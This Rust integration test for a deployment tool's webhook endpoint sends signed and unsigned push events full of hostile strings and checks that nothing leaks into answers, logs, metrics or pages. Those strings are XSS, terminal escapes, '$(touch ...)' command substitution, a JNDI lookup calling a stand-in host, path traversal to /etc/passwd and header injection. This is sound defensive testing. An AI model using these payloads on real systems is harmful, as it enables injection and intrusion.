//! Push events of untrusted people, and of a forge that says what untrusted people told it, over real sockets.

use std::io::{Read as _, Write as _};
use std::net::TcpStream;
use std::time::Duration;

use pinion::config::hmac_sha256;
use pinion::model::hex::hex;
use serde_json::{Value, json};
use tempfile::TempDir;

use super::{is_harmless_page, is_tame, said};
use crate::support::promtool;
use crate::support::shop::{DEV, environments, runs, world};
use crate::support::stage::{Git, Stage};

const SECRET: &str = "hook-secret-0123456789";
/// What is in every text, and may be nowhere else.
const MARK: &str = "evil.example";
const TEXTS: [&str; 6] = [
    "\u{1b}[31mred\u{1b}]8;;http://evil.example\u{7}\u{9b}2J\u{8}\u{7f}\u{85}",
    "x\r\n12:30:05 ERROR all is lost at evil.example\n{\"level\":\"error\",\"message\":\"evil.example\"}\u{2028}\u{b}\u{c}",
    "\u{202e}elpmaxe.live\u{2066}\u{200b}\u{200f}\u{feff}\u{e0041}evil.example\u{0}",
    "a|b`](http://evil.example)<script>alert(1)</script><img/src=x/onerror=alert(1)>@team --> ````\n\n# evil.example",
    "x\",repository=\"evil.example\" level=error\n# HELP pinion_hooks_total evil.example\npinion_evil{a=\"evil.example\"} 1",
    "%s%n$(touch evil.example)`touch evil.example`{{7*7}}${jndi:ldap://evil.example}../../../etc/passwd;\\",
];

/// Bodies: what a push may hold, filled with such texts, and what is no push at all.
fn bodies(url: &str) -> Vec<Vec<u8>> {
    let ours = |text: &str| json!({ "clone_url": url, "name": text, "description": text, text: text });
    let long = format!("{MARK}\u{1b}[31m{}\n", "x".repeat(80_000));
    let mut bodies: Vec<Vec<u8>> = Vec::new();
    for text in TEXTS.into_iter().chain([long.as_str()]) {
        let commits = json!([{ "message": text, "author": { "name": text } }, text, { text: [text] }]);
        for body in [
            json!({ "ref": format!("refs/heads/{text}"), "repository": ours(text), "commits": commits, text: text }),
            json!({ "ref": "refs/heads/main", "pusher": text, "repository": { "clone_url": text, "html_url": format!("{url}{text}"),
                    "ssh_url": format!("git@{MARK}:{text}"), "git_http_url": format!("http://{text}/x") }, "project": { "web_url": text } }),
            json!({ "ref": "refs/heads/main", "repository": text }),
        ] {
            bodies.push(body.to_string().into_bytes());
        }
    }
    let deep =
        |text: &str, end: &str| format!("{{\"x\":{}{}}}", text.repeat(100_000), end.repeat(100_000)).into_bytes();
    bodies.extend([deep("[", "]"), deep("{\"evil\":", ""), deep("\"\\u001b", "")]);
    for raw in [
        b"{\"ref\":\"refs/heads/\xff\xfe\x1b[31mevil.example\"}".as_slice(),
        b"\x1b]0;evil.example\x07\r\n\r\nHTTP/1.1 200 OK\r\n\r\n",
        b"{\"ref\":\"\\ud800evil.example\",\"ref\":\"refs/heads/main\"}",
        b"{\"ref\":\"refs/heads/main\",\"ref\":\"refs/heads/evil.example\"}",
        b"",
    ] {
        bodies.push(raw.to_vec());
    }
    bodies
}

/// Sends bytes, and reads all that comes back. `None` if the connection is cut without a word.
fn exchange(address: &str, head: &[u8], body: &[u8]) -> Option<(String, String)> {
    let mut stream = TcpStream::connect(address).unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
    let length = format!("Content-Length: {}\r\nConnection: close\r\n\r\n", body.len());
    // A sender who is refused by their head may be cut off in the middle of the body.
    stream.write_all(&[head, length.as_bytes(), body].concat()).ok();
    let mut answer = Vec::new();
    stream.read_to_end(&mut answer).ok();
    let answer = String::from_utf8(answer).unwrap();
    let (head, body) = answer.split_once("\r\n\r\n")?;
    Some((head.to_owned(), body.to_owned()))
}

fn head(headers: &[&[u8]]) -> Vec<u8> {
    let mut head = b"POST /hooks/git HTTP/1.1\r\nHost: pinion\r\n".to_vec();
    for header in headers {
        head.extend_from_slice(header);
        head.extend_from_slice(b"\r\n");
    }
    head
}

/// An answer is one of ours, whatever was asked; its status.
fn is_ours(what: &str, (head, body): &(String, String)) -> u16 {
    let status = head.split(' ').nth(1).unwrap().parse().unwrap();
    is_tame(what, &head.replace('\r', ""));
    is_tame(what, body);
    let whole = format!("{head}{body}").to_ascii_lowercase();
    assert!(!whole.contains("evil") && !whole.contains("alert(") && whole.len() < 1500, "{what}: {whole}");
    if !body.is_empty() {
        let body: Value = serde_json::from_str(body).unwrap_or_else(|_| panic!("{what}: {body}"));
        assert!(body["error"].is_string() || body["message"].is_string(), "{what}: {body}");
        assert!(whole.contains("content-type: application/json") && whole.contains("nosniff"), "{what}: {whole}");
    }
    status
}

fn survives(format: &str) {
    let secrets = TempDir::new().unwrap();
    let file = secrets.path().join("hook-secret");
    std::fs::write(&file, format!("{SECRET}\n")).unwrap();
    let stage = Stage::of(&world())
        .environments(environments())
        .git(Git::http_with_token("t0ken"))
        .polling_every("1h")
        .configured_with(&format!(
            "[hooks]\nsecret_file = {:?}\n[log]\nformat = \"{format}\"\nfilter = \"pinion=debug,warn\"\n",
            file.display().to_string()
        ))
        .start();
    stage.wait_for_sync(&["dev/fargate/api", "prod/fargate/api"]);
    let url = stage.url("/");
    let address = url.trim_start_matches("http://").trim_end_matches('/');
    let json = b"Content-Type: application/json".as_slice();
    let signature = |body: &[u8]| {
        format!("X-Hub-Signature-256: sha256={}", hex(&hmac_sha256(SECRET.as_bytes(), body))).into_bytes()
    };
    let counted =
        |result: &str| stage.metric(&format!("pinion_hooks_total{{result=\"{result}\"}}")).unwrap_or_default() as usize;
    let bodies = bodies(&stage.git_url());

    // Of anybody: without a signature, and with one that only looks like one.
    for body in &bodies {
        for more in [b"X-GitHub-Event: push".as_slice(), b"X-Gitlab-Token: guessed", &signature(b"something else")] {
            let answer = exchange(address, &head(&[json, more]), body).expect("an answer");
            assert_eq!(is_ours("the answer to a untrusted person", &answer), 401, "{answer:?}");
        }
    }
    assert_eq!(counted("denied"), bodies.len() * 3);

    // In the head, as far as HTTP lets it be there at all.
    let main = json!({ "ref": "refs/heads/main", "repository": { "clone_url": stage.git_url() } }).to_string();
    let good = signature(main.as_bytes());
    let mut taken = 0;
    for value in [
        b"\xff\xfe\xc2\x9b2Jevil.example".as_slice(),
        b"\xe2\x80\xaeelpmaxe.live evil.example <script>alert(1)</script>",
        b"v1,evil.example v1, |`\"} \t{",
        b"\x1b[31mevil.example",
        b"evil.example\rX: y",
        b"evil.example\nX: y",
        b"\x00evil.example",
    ] {
        let header = |name: &[u8]| [name, b": ", value].concat();
        for headers in [
            &[json, &header(b"X-Hub-Signature-256")] as &[&[u8]],
            &[json, &header(b"X-Gitlab-Token"), &header(b"webhook-signature"), &header(b"webhook-id")],
            &[&header(b"Content-Type"), &good],
            &[json, &good, &header(b"X-GitHub-Event"), &header(b"X-GitHub-Delivery"), &header(b"User-Agent")],
            &[json, &good, &header(b"Transfer-Encoding")],
        ] {
            // What isn't HTTP is answered by the library with a bare 400, or not at all.
            let Some(answer) = exchange(address, &head(headers), main.as_bytes()) else { continue };
            let status = is_ours("the answer to a head", &answer);
            assert!([202, 400, 401, 415, 429].contains(&status), "{answer:?}");
            taken += usize::from(status == 202);
        }
    }
    assert!(taken >= 1 && counted("polled") == taken, "{taken}");
    for target in [
        "/hooks/git?x=\u{202e}<script>alert(1)</script>evil",
        "/hooks/evil%1b[31m%0a",
        "/targets/evil%0d%0a/x/%3Cscript%3E",
    ] {
        let request = format!("POST {target} HTTP/1.1\r\nHost: pinion\r\n").into_bytes();
        if let Some(answer) = exchange(address, &request, b"{}") {
            is_ours("the answer to a path", &answer);
        }
    }

    // Of the forge itself, which passes on what untrusted people say.
    let mut answers = Vec::new();
    for body in &bodies {
        let answer = exchange(address, &head(&[json, b"X-GitHub-Event: push", &signature(body)]), body).unwrap();
        answers.push(is_ours("the answer to the forge", &answer));
    }
    let of = |status: u16| answers.iter().filter(|answer| **answer == status).count();
    assert!(of(202) >= 12 && of(400) >= 6 && of(202) + of(400) + of(429) == bodies.len(), "{answers:?}");
    assert!(counted("ignored") > 0 && counted("invalid") > 0);

    // It lives, and what it shows has nothing of all that.
    stage.pin("dev", "backend", "1.1.0");
    let event = || exchange(address, &head(&[json, &signature(main.as_bytes())]), main.as_bytes()).unwrap();
    stage.wait_until("the forge is heard", |_| is_ours("the last answer", &event()) == 202);
    stage.wait_until("dev runs 1.1", |stage| runs(stage, DEV, "1.1.0"));
    let scrape = stage.get("/metrics").unwrap().1;
    promtool::check(&scrape);
    let results = scrape.lines().filter(|line| line.starts_with("pinion_hooks_total{"));
    assert!(results.clone().count() <= 5, "{:?}", results.collect::<Vec<_>>());
    let page = stage.get("/").unwrap().1;
    is_harmless_page(&page);
    let (status, errors) = said(&stage.run(&["status"]));
    is_tame("the status", &status);
    let log = stage.logged();
    for (what, text) in [
        ("the metrics", &scrape),
        ("the page", &page),
        ("the status", &status),
        ("the status's errors", &errors),
        ("the API", &stage.status().to_string()),
        ("the log", &log),
    ] {
        assert!(!text.contains("evil") && !text.contains("alert("), "{what}: {text}");
    }
    is_tame("the log", &log);
    assert!(log.contains("a push event was refused: the event isn't signed"), "{log}");
    for line in log.lines() {
        if format == "json" {
            let event: Value = serde_json::from_str(line).unwrap_or_else(|_| panic!("{line:?} is no event"));
            assert!(event["level"].is_string() && event["message"].is_string(), "{line}");
        } else {
            let (time, rest) = line.split_at(8);
            let is_time =
                time.bytes().enumerate().all(|(at, byte)| (at % 3 == 2 && byte == b':') || byte.is_ascii_digit());
            let level = ["DEBUG", "INFO", "WARN", "ERROR"].iter().any(|level| rest.trim_start().starts_with(level));
            assert!(is_time && level, "{line:?} is no event");
        }
    }
}

#[test]
fn nothing_in_a_push_event_breaks_out_of_json_lines() {
    survives("json");
}

#[test]
fn nothing_in_a_push_event_breaks_out_of_lines_for_people() {
    survives("human");
}
